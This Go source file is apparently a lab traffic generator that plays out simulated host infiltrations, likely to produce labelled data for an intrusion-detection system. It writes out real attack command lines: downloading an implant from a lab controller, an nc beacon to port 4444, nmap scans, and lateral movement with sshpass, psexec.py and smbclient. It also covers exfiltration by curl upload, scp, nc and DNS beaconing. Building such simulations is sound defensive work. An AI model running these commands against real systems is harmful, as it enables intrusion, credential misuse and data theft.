package lab

import (
	"context"
	"fmt"
	"net/netip"
	"strings"
	"time"

	"firetower/internal/attack"
)

// infiltrations: a person's machine is taken over and used. The steps are those of
// every report, each in several ways: something executable comes in, the neighbours
// are looked at, sessions go from machine to machine, and much goes out.
func infiltrations() []Scenario {
	row := func(name string, lateral, out string) Scenario {
		return Scenario{Name: name, Class: attack.Infiltration, Limit: 90 * time.Second, Play: func(ctx context.Context, r *Run) error {
			return infiltrate(ctx, r, lateral, out)
		}}
	}
	return []Scenario{
		row("ssh-then-put", "ssh", "put"), row("ssh-then-scp", "ssh", "scp"), row("ssh-then-dns", "ssh", "dns"),
		row("smb-then-put", "smb", "put"), row("smb-then-post", "smb", "post"), row("psexec-then-put", "psexec", "put"),
		row("ftp-then-post", "ftp", "post"), row("ssh-then-shell", "ssh", "shell"),
	}
}

func infiltrate(ctx context.Context, r *Run, lateral, out string) error {
	boss, err := r.host(ctx, "controller", false)
	if err != nil {
		return err
	}
	if err := boss.ServeSite(ctx, r.Rand, 0); err != nil {
		return err
	}
	if err := boss.ServeSSH(ctx, 22); err != nil {
		return err
	}
	if err := boss.Serve("socat", "-u", "TCP-LISTEN:4444,fork,reuseaddr", "OPEN:/dev/null"); err != nil {
		return err
	}
	in := r.People[r.IntN(len(r.People))]
	r.Truth.Attackers = append(r.Truth.Attackers, in.Addr)
	r.against(boss)
	c2 := boss.Addr.String()
	r.play(ctx, in, "%s", r.pick("curl -s -o got http://"+c2+"/files/update.exe", "wget -q -O got http://"+c2+"/files/update.exe",
		"curl -s -o got -A 'WinHTTP/1.0' http://"+c2+"/files/update.exe"))
	pause(ctx, r.seconds(1, 4))
	if r.chance(0.6) { // the implant's own channel
		go in.Shell(ctx, "while :; do echo alive; sleep %d; done | nc %s 4444", r.between(2, 5), c2)
	}
	if err := r.look(ctx, in); err != nil {
		return err
	}
	pause(ctx, r.seconds(1, 4))
	if err := r.move(ctx, in, lateral); err != nil {
		return err
	}
	pause(ctx, r.seconds(1, 3))
	size := r.between(2, 20)
	r.play(ctx, in, "head -c %dM /dev/urandom > loot", size)
	switch out {
	case "put":
		r.play(ctx, in, "curl -s -o /dev/null -T loot http://%s/upload", c2)
	case "post":
		r.play(ctx, in, "split -b 1M loot part; for p in part*; do curl -s -o /dev/null --data-binary @$p http://%s/upload; sleep 0.%d; done", c2, r.between(1, 9))
	case "scp":
		key, err := r.Key(ctx)
		if err != nil {
			return err
		}
		r.play(ctx, in, "scp -q %s loot alice@%s:", key, c2)
	case "shell":
		r.play(ctx, in, "nc -w 3 %s 4444 < loot", c2)
	case "dns":
		r.actor(ctx, in, "beacon -url dns:files-sync.example -every 200ms -jitter 0.3 -for 20s -task 0.8")
	}
	return nil
}

// look is the scan of the neighbours: those known by name, or a part of the network.
func (r *Run) look(ctx context.Context, in *Host) error {
	where := r.neighbours()
	if r.chance(0.6) {
		if _, err := r.crowd(ctx); err != nil {
			return err
		}
		where = netip.PrefixFrom(r.At(128), r.between(26, 28)).String()
	}
	ports := r.pick("22,445", "22,80,445,3389", "21,22,139,445", "445,22,135")
	r.play(ctx, in, "%s", r.pick(
		fmt.Sprintf("nmap -n -Pn -sT -T4 -p %s %s", ports, where),
		fmt.Sprintf("nmap -n -sS -T4 -p %s %s", ports, where),
		fmt.Sprintf("nmap -n -Pn -sT -T4 --top-ports %d %s %s", r.between(2, 20)*10, r.Files.Addr, r.Shop.Addr),
		fmt.Sprintf("for a in %s; do nc -nvz -w 1 $a 22; nc -nvz -w 1 $a 445; done", r.neighbours())))
	return nil
}

func (r *Run) neighbours() string {
	list := []string{}
	for _, h := range append([]*Host{r.Shop, r.Mail, r.Files, r.DNS}, r.People...) {
		list = append(list, h.Addr.String())
	}
	return strings.Join(list, " ")
}

// move goes from the machine to others with what passwords were found.
func (r *Run) move(ctx context.Context, in *Host, how string) error {
	u := Users[r.IntN(len(Users))]
	n := r.between(2, 5)
	switch how {
	case "ssh":
		r.Truth.Victims = append(r.Truth.Victims, r.Files.Addr)
		for range n {
			r.play(ctx, in, "sshpass -p '%s' ssh %s -T %s@%s 'id; ls -l /etc; cat /etc/services'", u.Password, sshOptions, u.Name, r.Files.Addr)
			pause(ctx, r.seconds(0.3, 3))
		}
		return nil
	case "ftp":
		h, err := r.service(ctx, "ftp")
		if err != nil {
			return err
		}
		r.against(h)
		r.play(ctx, in, "head -c 300K /dev/urandom > tool.exe; for i in 1 2 3; do curl -s -T tool.exe -u '%s:%s' ftp://%s/; done", u.Name, u.Password, h.Addr)
		return nil
	}
	h, err := r.service(ctx, "smb")
	if err != nil {
		return err
	}
	r.against(h)
	if how == "psexec" { // writes a program to the share, then talks to the service manager
		r.play(ctx, in, "timeout 20 /usr/bin/python3 /usr/share/doc/python3-impacket/examples/psexec.py '%s:%s@%s' whoami </dev/null", u.Name, u.Password, h.Addr)
	}
	for range n {
		r.play(ctx, in, "smbclient -U '%s%%%s' '//%s/%s' -c 'put got svc.exe; ls'; smbclient -U '%s%%%s' //%s/files -c 'ls; get plan%d.txt'",
			u.Name, u.Password, h.Addr, r.pick("ADMIN$", "files"), u.Name, u.Password, h.Addr, r.between(0, 19))
		pause(ctx, r.seconds(0.3, 2))
	}
	return nil
}
